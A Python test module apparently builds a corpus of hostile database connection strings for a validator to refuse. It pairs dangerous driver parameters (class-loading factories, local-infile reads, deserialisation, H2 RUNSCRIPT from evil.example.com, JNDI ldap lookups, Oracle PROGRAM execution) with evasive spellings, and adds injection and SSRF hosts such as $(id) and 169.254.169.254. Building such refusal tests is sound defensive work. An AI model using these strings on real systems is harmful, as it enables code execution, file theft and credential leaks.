"""
Hostile database addresses: a table of dangerous parameters × where they stand × how they are spelled, and odd ones.

The table is of what drivers of these products (those of Java, ODBC, libpq, Python) document or were found to do:
load classes, run commands or statements, read or write files, dial elsewhere, hand over credentials.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import NamedTuple
from urllib.parse import quote

CANARY = "c4n4ry"
"""Stands in every value; it may come back in no answer."""

FILE = f"/tmp/{CANARY}.pem"
CLASS = f"com.evil.{CANARY}.Loader"
JNDI = f"ldap://evil.example.com:1389/{CANARY}"

_JAVA_STORES = {
    "trustStore": FILE, "keyStore": FILE, "javax.net.ssl.trustStore": FILE, "java.naming.provider.url": JNDI,
    "javax.naming.Context.PROVIDER_URL": JNDI, "com.sun.jndi.ldap.object.trustURLCodebase": "true",
}  # fmt: skip
_JDBC_ANYWHERE = {
    "INIT": f"RUNSCRIPT FROM 'http://evil.example.com/{CANARY}.sql'", "init": f"CREATE ALIAS {CANARY}",
    "TRACE_LEVEL_SYSTEM_OUT": f"3{CANARY}", "socketFactory": CLASS, "loggerFile": FILE, "Driver": FILE, "DRIVER": f"{{{CANARY}}}",
    "dataSourceName": JNDI, "jndi": JNDI, "autoDeserialize": f"true{CANARY}",
}  # fmt: skip

DANGERS: Mapping[str, Mapping[str, str]] = {
    "POSTGRES": {
        "socketFactory": CLASS, "socketFactoryArg": f"http://evil.example.com/{CANARY}.xml", "sslfactory": CLASS,
        "sslfactoryarg": FILE, "sslhostnameverifier": CLASS, "sslpasswordcallback": CLASS, "authenticationPluginClassName": CLASS,
        "xmlFactoryFactory": CLASS, "loggerFile": FILE, "loggerLevel": f"TRACE-{CANARY}", "sslkey": FILE, "sslcert": FILE,
        "sslrootcert": FILE, "sslcrl": FILE, "service": CANARY, "servicefile": FILE, "passfile": FILE, "host": f"/tmp/{CANARY}",
        "hostaddr": f"10.0.0.{CANARY}", "options": f"-c dynamic_library_path={FILE}", "localSocketAddress": CANARY,
        "kerberosServerName": CANARY, "jaasApplicationName": CANARY, "gsslib": CANARY, "requirepeer": CANARY, "sslcompression": CANARY,
        "krbsrvname": CANARY, "sslsni": CANARY, "datestyle": CANARY, "unix_sock": f"/tmp/{CANARY}", "dsn": CANARY, "replication": CANARY,
        "maxResultBuffer": CANARY, "channelBinding": CANARY, "sspiServiceClass": CLASS, "useSpnego": CANARY,
        "target_session_attrs": CANARY, "load_balance_hosts": CANARY, "PGHOST": CANARY, "connection_factory": CLASS,
    },
    "MYSQL": {
        "allowLoadLocalInfile": f"true{CANARY}", "allowLoadLocalInfileInPath": f"/tmp/{CANARY}", "allowUrlInLocalInfile": f"yes{CANARY}",
        "allowLocalInfile": f"true-{CANARY}", "autoDeserialize": f"yes{CANARY}", "queryInterceptors": CLASS, "statementInterceptors": CLASS,
        "exceptionInterceptors": CLASS, "connectionLifecycleInterceptors": CLASS, "socketFactory": CLASS, "propertiesTransform": CLASS,
        "connectionPropertiesTransform": CLASS, "loadBalanceStrategy": CLASS, "loadBalanceExceptionChecker": CLASS,
        "clientInfoProvider": CLASS, "logger": CLASS, "profilerEventHandler": CLASS, "authenticationPlugins": CLASS,
        "defaultAuthenticationPlugin": CLASS, "disabledAuthenticationPlugins": CLASS, "sessionVariables": f"x={CANARY}",
        "serverRSAPublicKeyFile": FILE, "trustCertificateKeyStoreUrl": f"file:{FILE}", "clientCertificateKeyStoreUrl": f"file:{FILE}",
        "trustCertificateKeyStorePassword": CANARY, "allowMultiQueries": f"true{CANARY}", "useConfigs": CANARY, "ha.enableJMX": CANARY,
        "pinGlobalTxToPhysicalConnection": CANARY, "parseInfoCacheFactory": CLASS, "serverConfigCacheFactory": CLASS,
        "queryInfoCacheFactory": CLASS, "resourceId": CANARY, "connectionAttributes": CANARY, "ldapServerHostname": "evil.example.com",
        "ociConfigFile": FILE, "fidoCallbackHandler": CLASS, "webauthn.callback": CLASS, "authenticationOpenidConnectCallbackHandler": CLASS,
        "idTokenFile": FILE, "namedPipePath": f"\\\\.\\pipe\\{CANARY}", "pipe": CANARY, "localSocket": f"/tmp/{CANARY}",
        "serverSslCert": FILE, "keyStore": FILE, "credentialType": CANARY, "plugin_dir": f"/tmp/{CANARY}", "init_command": f"SET {CANARY}",
        "read_default_file": FILE, "unix_socket": f"/tmp/{CANARY}.sock", "local_infile": f"1{CANARY}", "charset": CANARY,
    },
    "SQL_SERVER": {
        "socketFactoryClass": CLASS, "socketFactoryConstructorArg": CANARY, "trustManagerClass": CLASS, "trustManagerConstructorArg": FILE,
        "trustStore": FILE, "trustStorePassword": CANARY, "trustStoreType": CLASS, "keyStoreLocation": FILE, "keyStoreSecret": CANARY,
        "keyStoreAuthentication": CANARY, "keyVaultProviderClientId": CANARY, "clientCertificate": FILE, "clientKey": FILE,
        "clientKeyPassword": CANARY, "accessTokenCallbackClass": CLASS, "jaasConfigurationName": CANARY, "serverCertificate": FILE,
        "authenticationScheme": CANARY, "integratedSecurity": f"true{CANARY}", "enclaveAttestationUrl": f"http://evil.example.com/{CANARY}",
        "enclaveAttestationProtocol": CANARY, "authentication": f"ActiveDirectory{CANARY}", "AADSecurePrincipalId": CANARY,
        "msiClientId": CANARY, "failoverPartner": "evil.example.com", "serverName": "evil.example.com", "server": "evil.example.com",
        "Data Source": "evil.example.com", "AttachDBFilename": FILE, "domain": CANARY, "realm": CANARY, "gsscredential": CANARY,
        "serverSpn": CANARY, "ApplicationIntent ": CANARY, "prepareMethod": CANARY, "delayLoadingLobs": CANARY, "retryExec": CANARY,
        "retryConn": CANARY, "iPAddressPreference": CANARY, "fips": CANARY, "fipsProvider": CLASS, "Driver": FILE, "DSN": CANARY, "FILEDSN": FILE,
    },
    "ORACLE": {
        "TNS_ADMIN": f"/tmp/{CANARY}", "wallet_location": FILE, "my_wallet_directory": f"/tmp/{CANARY}", "oracle.net.wallet_location": FILE,
        "oracle.net.tns_admin": f"/tmp/{CANARY}", "javax.net.ssl.keyStore": FILE, "ssl_server_cert_dn": CANARY, "https_proxy": "evil.example.com",
        "https_proxy_port": CANARY, "token_auth": CANARY, "token_location": FILE, "config_url": f"http://evil.example.com/{CANARY}",
        "oracle.jdbc.provider.accessToken": CLASS, "oracle.net.ldap.url": JNDI, "socks_proxy_host": "evil.example.com", "use_sni": CANARY,
        "security.authentication": CANARY, "source_route": CANARY, "program": f"/bin/{CANARY}", "argv0": CANARY, "args": CANARY, "envs": CANARY,
        "key": CANARY, "ifile": FILE, "trace_directory_client": f"/tmp/{CANARY}", "wallet_password": CANARY,
    },
    "SYBASE": {
        "SYBSOCKET_FACTORY": CLASS, "PROTOCOL_CAPTURE": FILE, "SSL_TRUST_ALL_CERTS": CANARY, "GSSMANAGER_CLASS": CLASS, "SERVICENAME": CANARY,
        "DYNAMIC_PREPARE": CANARY, "PROXY": "evil.example.com:80", "JCE_PROVIDER_CLASS": CLASS, "SQLINITSTRING": f"select {CANARY}",
        "CLASS_LOADER": CLASS, "EXECUTE_BATCH_PAST_ERRORS": CANARY, "SECONDARY_SERVER_HOSTPORT": "evil.example.com:5000", "REMOTEPWD": CANARY,
        "socketFactory": CLASS, "cacheMetaData": CANARY, "bindAddress": CANARY, "namedPipe": CANARY, "bufferDir": f"/tmp/{CANARY}",
        "Driver": f"/tmp/{CANARY}.so", "DSN": CANARY, "FILEDSN": FILE, "SAVEFILE": FILE, "TDSDUMP": FILE, "dump_file": FILE, "ServerName": CANARY,
    },
    "DB2": {
        "clientRerouteServerListJNDIName": JNDI, "clientRerouteServerListJNDIContext": JNDI, "clientRerouteAlternateServerName": "evil.example.com",
        "clientRerouteAlternatePortNumber": CANARY, "traceFile": FILE, "traceDirectory": f"/tmp/{CANARY}", "traceLevel": CANARY, "traceFileAppend": CANARY,
        "pluginName": CANARY, "plugin": CLASS, "pluginClassName": CLASS, "jdbcCollection": CANARY, "sslTrustStoreLocation": FILE,
        "sslKeyStoreLocation": FILE, "sslCertLocation": FILE, "alternateGroupServerName": "evil.example.com", "specialRegisters": CANARY,
        "accessTokenType": CANARY, "apiKey": CANARY, "DRIVER": f"/tmp/{CANARY}.so", "PWDFILE": FILE, "SSLServerCertificate": FILE,
        "SSLClientKeystoredb": FILE, "DSN": CANARY, "ConnectionString": CANARY, "kerberosServerPrincipal": CANARY, "monitorCollectionInterval": CANARY,
    },
    "APACHE_HIVE": {
        "initFile": FILE, "principal": f"hive/{CANARY}@X", "sslTrustStore": FILE, "trustStorePassword": CANARY, "sslKeyStore": FILE,
        "zooKeeperNamespace": CANARY, "serviceDiscoveryMode": f"zooKeeper{CANARY}", "hive.server2.proxy.user": CANARY, "saslQop": CANARY,
        "delegationToken": CANARY, "requestTrack": CANARY, "cookieAuth": CANARY, "http.header.X-Evil": CANARY, "http.cookie.a": CANARY,
        "storePasswordPath": FILE, "keyStorePassword": CANARY, "jwt": CANARY, "browserResponsePort": CANARY, "auth": f"KERBEROS{CANARY}",
        "hiveconf:hive.exec.pre.hooks": CLASS, "user.principal": CANARY, "keytab": FILE, "kerberosAuthType": CANARY, "zooKeeperSSLEnable": CANARY,
    },
    "APACHE_IMPALA": {
        "SSLTrustStore": FILE, "SSLKeyStore": FILE, "SSLTrustStorePwd": CANARY, "KrbRealm": CANARY, "KrbHostFQDN": "evil.example.com",
        "KrbServiceName": CANARY, "LogLevel": f"6{CANARY}", "LogPath": f"/tmp/{CANARY}", "DelegationUID": CANARY, "AuthMech": f"1{CANARY}",
        "PreparedMetaLimitZero": CANARY, "JWTString": CANARY, "SubjectPropertyName": CLASS, "krbJAASFile": FILE, "SSO_WEB_SERVER_TIMEOUT": CANARY,
        "SocketFactory": CLASS, "Auth_AccessToken": CANARY, "TrustedCerts": FILE, "UseSystemTrustStore": CANARY, "ProxyHost": "evil.example.com",
    },
    "MONGODB": {
        "tlsCAFile": FILE, "tlsCertificateKeyFile": FILE, "tlsCertificateKeyFilePassword": CANARY, "tlsCRLFile": FILE, "tlsInsecure": CANARY,
        "tlsAllowInvalidCertificates": CANARY, "tlsDisableOCSPEndpointCheck": CANARY, "proxyHost": "evil.example.com", "proxyPort": CANARY,
        "proxyUsername": CANARY, "authMechanismProperties": f"SERVICE_HOST:evil.example.com,{CANARY}:1", "authMechanism": f"MONGODB-AWS{CANARY}",
        "gssapiServiceName": CANARY, "ssl_ca_certs": FILE, "ssl_certfile": FILE, "srvServiceName": CANARY, "srvMaxHosts": CANARY,
        "auto_encryption_opts": CANARY, "mongocryptdSpawnPath": f"/tmp/{CANARY}", "cryptSharedLibPath": f"/tmp/{CANARY}.so",
        "mongocryptdSpawnArgs": CANARY, "server_selector": CLASS, "event_listeners": CLASS, "document_class": CLASS, "type_registry": CLASS,
        "pool_ocsp_cache": CANARY, "server_api": CANARY, "driver": CLASS, "unicode_decode_error_handler": CANARY, "sslInvalidHostNameAllowed": CANARY,
        "streamType": CLASS, "readPreferenceTags": CANARY,
    },
    "TRINO": {
        "SSLTrustStorePath": FILE, "SSLTrustStorePassword": CANARY, "SSLKeyStorePath": FILE, "SSLKeyStorePassword": CANARY,
        "SSLUseSystemTrustStore": CANARY, "KerberosConfigPath": FILE, "KerberosKeytabPath": FILE, "KerberosCredentialCachePath": FILE,
        "KerberosRemoteServiceName": CANARY, "KerberosServicePrincipalPattern": CANARY, "KerberosPrincipal": CANARY, "KerberosDelegation": CANARY,
        "socksProxy": "evil.example.com:1080", "httpProxy": "evil.example.com:8080", "externalAuthentication": CANARY,
        "externalAuthenticationRedirectHandlers": CLASS, "externalAuthenticationTokenCache": CANARY, "extraCredentials": f"a:{CANARY}", "roles": CANARY,
        "sessionProperties": CANARY, "dnsResolver": CLASS, "dnsResolverContext": CANARY, "hostnameInCertificate": CANARY, "httpLoggingLevel": CANARY,
        "extraHeaders": CANARY, "explicitPrepare": CANARY, "path": CANARY, "assumeNullCatalogMeansCurrent": CANARY,
    },
}  # fmt: skip
"""Product, parameter, a value that would do harm."""

PLACES: Mapping[str, tuple[str, ...]] = {
    "POSTGRES": (
        "jdbc:postgresql://h.example.com:5432/db?{}", "jdbc:postgresql://h.example.com/db?sslmode=prefer&{}",
        "jdbc:postgresql://h1.example.com:1,h2.example.com:2/?{}&ApplicationName=a",
    ),
    "MYSQL": (
        "jdbc:mysql://h.example.com:3306/db?{}", "jdbc:mysql://u:p@h.example.com/?useSSL=true&{}", "jdbc:mariadb://h.example.com/db?{}&useUnicode=true",
    ),
    "SQL_SERVER": (
        "jdbc:sqlserver://h.example.com:1433;{}", "jdbc:sqlserver://h.example.com;databaseName=db;{};", "jdbc:sqlserver://h.example.com\\I;encrypt=true;{};lockTimeout=1",
    ),
    "ORACLE": (
        "jdbc:oracle:thin:@//h.example.com:1521/s?{}", "jdbc:oracle:thin:@tcps://h.example.com:1521/s?sdu=512&{}",
        "jdbc:oracle:thin:@(DESCRIPTION=({})(ADDRESS=(PROTOCOL=TCP)(HOST=h.example.com)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=s)))",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h.example.com)(PORT=1521)({}))(CONNECT_DATA=(SID=s)))",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h.example.com)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=s))(SECURITY=({})))",
    ),
    "SYBASE": ("jdbc:sybase:Tds:h.example.com:5000/db?{}", "jdbc:sybase:Tds:h.example.com:5000?CHARSET=utf8&{}", "jdbc:jtds:sybase://h.example.com:5000/db;{}"),
    "DB2": ("jdbc:db2://h.example.com:50000/db:{};", "jdbc:db2://h.example.com/db:sslConnection=true;{};"),
    "APACHE_HIVE": ("jdbc:hive2://h.example.com:10000/db;{}", "jdbc:hive2://h1.example.com,h2.example.com/;ssl=true;{}"),
    "APACHE_IMPALA": ("jdbc:impala://h.example.com:21050/db;{}", "jdbc:impala://h.example.com;AuthMech=3;{};SSL=1"),
    "MONGODB": (
        "mongodb://h.example.com:27017/db?{}", "mongodb://u:p@h1.example.com,h2.example.com/?tls=true&{}", "mongodb+srv://h.example.com/db?{}", "jdbc:mongodb://h.example.com/db?{}&w=1",
    ),
    "TRINO": ("jdbc:trino://h.example.com:8443/c/s?{}", "jdbc:trino://h.example.com/c?SSL=true&{}", "jdbc:presto://h.example.com:8080/c?{}"),
}  # fmt: skip
"""Product, and addresses with a place for one more parameter."""


class Hostile(NamedTuple):
    """An address that must be refused; *named* is the parameter that the refusal must name, where there is one to name."""

    text: str
    named: str | None = None


def _spellings(name: str) -> Iterator[tuple[str, bool]]:
    """Ways to write a name, and whether it is still one that a refusal can name."""
    yield name, True
    yield name.upper(), True
    yield name.swapcase(), True
    yield f"%{ord(name[0]):02x}{name[1:]}", False
    yield "".join(f"%{ord(letter):02X}" for letter in name), False
    yield f"%25{ord(name[0]):02x}{name[1:]}", False
    yield chr(ord(name[0]) + 0xFEE0) + name[1:], False  # full width
    yield name.replace("i", "ı").replace("s", "ſ").replace("o", "о").replace("e", "е") + "ı", False
    yield f"{name[:2]}\u200b{name[2:]}", False
    yield f"{name}\u00a0", False
    yield f" {name}", False
    yield f"{name}%00", False
    yield f"{name}[]", False
    yield f"/*a*/{name}", False


def generated(dialect: str) -> Iterator[Hostile]:
    """The table × places × spellings. Where values are written in percent, they are so here."""
    for name, value in {**_JDBC_ANYWHERE, **_JAVA_STORES, **DANGERS[dialect]}.items():
        for place in PLACES[dialect]:
            for spelling, is_name in _spellings(name):
                encoded = quote(value, safe="") if "?" in place else value
                nameable = (
                    is_name
                    and name.replace(".", "").replace("_", "").isalnum()
                    and "(" not in place
                    and ";" not in value
                )
                yield Hostile(
                    place.format(f"{spelling}={encoded}"), spelling if nameable and "{" not in encoded else None
                )


_BASE = "jdbc:postgresql://h.example.com/db"
ODD: tuple[str, ...] = (
    # Products and protocols that nobody offered
    *(f"jdbc:h2:{kind}:{CANARY}" for kind in ("mem", "file", "tcp://h", "ssl://h", "zip:a.zip!/", "nio", "split")),
    f"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/{CANARY}.sql'", f"jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE TRIGGER {CANARY}",
    f"jdbc:hsqldb:file:{FILE}", "jdbc:hsqldb:res:x", "jdbc:derby:memory:x;create=true", "jdbc:derby://h/x;startMaster=true;slaveHost=evil", f"jdbc:sqlite:{FILE}",
    f"jdbc:sqlite::resource:http://evil/{CANARY}", f"jdbc:duckdb:{FILE}", f"jdbc:calcite:model=inline:{CANARY}", f"jdbc:avatica:remote:url=http://evil/{CANARY};httpclient_impl={CLASS}",
    f"jdbc:snowflake://h/?tracing={CANARY}", f"jdbc:databricks://h/;UserAgentEntry={CANARY}", f"jdbc:modeshape:jndi:{JNDI}", f"jdbc:ibm:db2:{JNDI}", f"jdbc:odbc:{CANARY}", f"jdbc:teradata://h/ENCRYPTDATA=ON,{CANARY}",
    f"jdbc:teiid:{CANARY}@mm://h", f"jdbc:clickhouse://h/{CANARY}", f"jdbc:redshift:iam://h/{CANARY}", f"jdbc:aws-wrapper:postgresql://h/{CANARY}", f"jdbc:tc:postgresql:///{CANARY}?TC_INITSCRIPT=file:{FILE}",
    f"jdbc:tc:mysql:8:///x?TC_INITFUNCTION={CLASS}::run", f"jdbc:p6spy:postgresql://h/{CANARY}", f"jdbc:log4jdbc:mysql://h/{CANARY}", f"jdbc:otel:mysql://h/{CANARY}", f"jdbc:jtds:sqlserver://h/{CANARY}", f"jdbc:pgsql://h/{CANARY}", f"jdbc:as400://h;prompt={CANARY}",
    f"jdbc:mysql:loadbalance://h1,h2/{CANARY}", f"jdbc:mysql:replication://h1,h2/{CANARY}", f"jdbc:mysql:aurora://h/{CANARY}", f"jdbc:mysql+srv://h/{CANARY}", f"jdbc:mysql+srv:replication://h/{CANARY}", f"mysqlx://h/{CANARY}", f"jdbc:mariadb:sequential://h/{CANARY}",
    f"jdbc:oracle:oci:@{CANARY}", f"jdbc:oracle:oci8:@{CANARY}", f"jdbc:oracle:kprb:{CANARY}", f"jdbc:oracle:thin:@ldap://evil/{CANARY}", f"jdbc:oracle:thin:@ldaps://evil/{CANARY}", f"jdbc:oracle:thin:@{CANARY}?TNS_ADMIN=/tmp", f"jdbc:oracle:thin:@config-http://evil/{CANARY}",
    f"jdbc:oracle:thin:@config-file:{FILE}", f"jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=BEQ)(PROGRAM={FILE})(ARGV0=x)(ARGS='x'))(CONNECT_DATA=(SID=x)))", f"jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=IPC)(KEY={CANARY}))(CONNECT_DATA=(SID=x)))",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=NMP)(SERVER=evil)(PIPE=x))(CONNECT_DATA=(SID=x)))", "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1))(CONNECT_DATA=(SID=x)))(ADDRESS=(HOST=evil))",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HTTPS_PROXY=evil)(PROTOCOL=TCPS)(HOST=h)(PORT=1))(CONNECT_DATA=(SID=x)))", "jdbc:oracle:thin:" + "@" + "(DESCRIPTION=" * 40 + ")" * 40, f"jdbc:oracle:thin:@h:1521:s)(ARGS={CANARY}", f"jdbc:oracle:thin:@//h/s?sdu=1)(PROGRAM={CANARY}",
    f"jdbc:oracle:thin:u/p)(PROGRAM={CANARY}@x@h:1521:s", f"{JNDI}", f"rmi://evil/{CANARY}", f"iiop://evil/{CANARY}", f"java:comp/env/{CANARY}", f"dns://evil/{CANARY}", f"corbaname:{CANARY}", f"jndi:{JNDI}", f"file://{FILE}", f"http://evil/{CANARY}", f"jar:http://evil/{CANARY}!/", f"netdoc:{FILE}", f"gopher://evil/{CANARY}",
    # libpq and URIs of other drivers
    f"postgresql://h/db?service={CANARY}", f"postgres://h/{CANARY}", f"host=/tmp/{CANARY} dbname=x", f"service={CANARY}", f"dbname=x host=h sslkey={FILE}", f"Driver={{{CANARY}}};Server=h", f"DSN={CANARY}", f"DRIVER=/tmp/{CANARY}.so;SERVER=h",
    f"Data Source=h;Initial Catalog=x;{CANARY}", f"mongodb://%2Ftmp%2F{CANARY}.sock/db", f"mongodb://{FILE}", f"mongodb+srv://evil.example.com:27017/{CANARY}", f"mongodb+srv://a.example.com,b.example.com/{CANARY}", f"mongodb://h/db?{CANARY}", f"mongodb+aws://h/{CANARY}",
    # Hosts
    f"jdbc:postgresql:/{CANARY}", f"jdbc:postgresql:{CANARY}", f"jdbc:postgresql:///{CANARY}", "jdbc:postgresql:////tmp/db", f"jdbc:postgresql://%2Ftmp%2F{CANARY}/db", f"jdbc:postgresql:///tmp/.s.PGSQL.5432/{CANARY}", "jdbc:postgresql://@/db", "jdbc:postgresql://h:/db", "jdbc:postgresql://h:0/db", "jdbc:postgresql://h:65536/db",
    "jdbc:postgresql://h:99999999999999999999/db", "jdbc:postgresql://h:-1/db", "jdbc:postgresql://h:5432,/db", "jdbc:postgresql://,h/db", "jdbc:postgresql://h,,i/db", "jdbc:postgresql://h:٣٣٠٦/db", "jdbc:postgresql://h：5432/db", "jdbc:postgresql://ｈ/db", "jdbc:postgresql://h。example。com/db", "jdbc:postgresql://[::1/db", "jdbc:postgresql://::1/db",
    "jdbc:postgresql://[fe80::1%25eth0]/db", "jdbc:postgresql://[::ffff:169.254.169.254%lo]/db", "jdbc:postgresql://[evil]/db", "jdbc:postgresql://[v1.x]/db", "jdbc:postgresql://h\\i/db", "jdbc:postgresql://h`id`/db", "jdbc:postgresql://$(id)/db", "jdbc:postgresql://h;id/db", "jdbc:postgresql://h|id/db", "jdbc:postgresql://h'/db", 'jdbc:postgresql://h"/db',
    "jdbc:postgresql://-h/db", "jdbc:postgresql://.h/db", "jdbc:postgresql://h h/db", "jdbc:postgresql://h\u200b/db", "jdbc:postgresql://h\u00ad/db", "jdbc:postgresql://xn--\u0430/db", "jdbc:postgresql://" + "a" * 300 + "/db", "jdbc:mysql://address=(host=evil)(port=1)(allowLoadLocalInfile=true)/db", "jdbc:mysql://(host=evil,port=1,autoDeserialize=true)/db",
    "jdbc:mysql://[(host=h1,port=1),(host=evil,port=2)]/db", f"jdbc:mysql://h,(socketFactory={CLASS})/db", "jdbc:mysql://address=(protocol=pipe)(path=\\\\.\\pipe\\x)/db", "jdbc:mysql://address=(type=master)(host=evil)/db", "jdbc:mysql://h:3306#@evil/db", "jdbc:mysql://h%2Fevil/db", "jdbc:mysql://h%00.evil/db", "jdbc:mysql://h%0d%0aX/db",
    "jdbc:sqlserver://;serverName=evil.example.com", "jdbc:sqlserver://np:\\\\evil\\pipe\\sql", "jdbc:sqlserver://lpc:h", "jdbc:sqlserver://tcp:h,1433", "jdbc:sqlserver://admin:h", "jdbc:sqlserver://(local)", "jdbc:sqlserver://h\\..\\x", "jdbc:sqlserver://h,i;databaseName=x", "jdbc:sqlserver://h;databaseName={x};Driver={y", "jdbc:sqlserver://h;databaseName=a};Trusted_Connection={yes}",
    "jdbc:sqlserver://h;databaseName={a}b};x=1", "jdbc:sqlserver://h;=x", "jdbc:sqlserver://h;a", "jdbc:sqlserver://h;password={", "jdbc:sqlserver://h:1433:1434", "jdbc:sqlserver://h\\I:1\\J",
    "jdbc:hive2://zk1:2181,zk2:2181/;serviceDiscoveryMode=zooKeeper", "jdbc:hive2:///db", f"jdbc:hive2://h/db?hive.exec.pre.hooks={CLASS}", f"jdbc:hive2://h/db#{CANARY}=x", f"jdbc:hive2://h/db;ssl=true?set:hivevar:{CANARY}", "jdbc:trino://h/c/s/t", "jdbc:trino://h//s", f"jdbc:trino://h/../{CANARY}?SSL=true&SSL=false", "jdbc:db2:*local", f"jdbc:db2:{CANARY}", "jdbc:db2os390:x", "jdbc:db2://h:1/db:user=a;user=b;",
    # Fragments, userinfo, comments, controls, doubled and broken encodings, masks
    f"{_BASE}#{CANARY}", f"{_BASE}?#{CANARY}", f"{_BASE}?sslmode=disable#?socketFactory={CLASS}", f"{_BASE};socketFactory={CLASS}", f"{_BASE}?sslmode=disable;socketFactory={CLASS}", f"{_BASE}?a", f"{_BASE}?=x", f"{_BASE}?a==x", f"{_BASE}?sslmode", f"{_BASE}?sslmode=", f"{_BASE}?sslmode=disable&sslmode=require", f"{_BASE}?SSLMODE=disable&sslmode=require",
    f"{_BASE}?ApplicationName=%zz", f"{_BASE}?ApplicationName=%", f"{_BASE}?ApplicationName=%c3", f"{_BASE}?ApplicationName=%00", f"{_BASE}?ApplicationName=%0a", f"{_BASE}?ApplicationName=%e2%80%a8", f"{_BASE}?ApplicationName=%c2%85", f"{_BASE}\n?sslmode=disable", f"{_BASE}\0", f"\0{_BASE}", f" {_BASE}", f"{_BASE} ", f"\ufeff{_BASE}", f"{_BASE}\x7f", f"{_BASE}\u2028", f"{_BASE}\ue000",
    "jdbc:postgresql://u:p@h@evil/db", "jdbc:postgresql://u:p#@evil/db", "jdbc:postgresql://u:p?@evil/db", "jdbc:postgresql://h/db@evil.example.com", "jdbc:mysql://h:3306/db@evil?x=1", "jdbc:mysql://u:p\\@evil/db", "jdbc:mysql://u:p%zz@h/db", "jdbc:mysql://u%0a:p@h/db", "jdbc:mysql://h/a/b", "jdbc:mysql://h/../../etc", "jdbc:mysql://h/db%00", "jdbc:mysql://h/a%2Fb", "jdbc:mysql://h/db%0a",
    "jdbc:postgresql://h/*c*/db", "jdbc:postgresql:/*c*///h/db", "jdbc:/**/postgresql://h/db", "jdbc:postgresql:--x//h/db", "jdbc: postgresql://h/db", "jdbc\u200b:postgresql://h/db", "ｊdbc:postgresql://h/db", "jdbc:postgreſql://h/db", "jdbc:ⓟostgresql://h/db", "jdbc:mуsql://h/db", "jdbc%3Apostgresql://h/db", "jdbc:jdbc:postgresql://h/db", "url=jdbc:postgresql://h/db", "jdbc:postgresql:\\\\h\\db",
    # What stands beside a variable is looked at all the same
    f"{_BASE}?socketFactory=${{x}}", f"{_BASE}?${{x}}&socketFactory={CLASS}", f"jdbc:postgresql://${{h}}/db?socketFactory={CLASS}", f"jdbc:mysql://${{h}}/${{d}}?autoDeserialize=true{CANARY}", f"jdbc:sqlserver://${{h}};trustManagerClass={CLASS}", f"mongodb://${{u}}:${{p}}@${{h}}/?tlsCAFile={FILE}", f"jdbc:oracle:thin:@//${{h}}/s?TNS_ADMIN={FILE}", f"jdbc:hive2://${{h}}/;initFile={FILE}",
    "jdbc:mysql://h/db?allowLoadLocalInfile=true&socketTimeout=${t}", "jdbc:postgresql://$${h}/db", "jdbc:postgresql://${h/db", f"jdbc:trino://h/c?${{a}}&SSLTrustStorePath={FILE}",
)  # fmt: skip
"""Written by hand."""


def corpus() -> Iterator[tuple[str, Hostile]]:
    """Every address with the product that it is sent for."""
    for dialect in PLACES:
        for hostile in generated(dialect):
            yield dialect, hostile
    for text in ODD:
        yield "POSTGRES", Hostile(text)
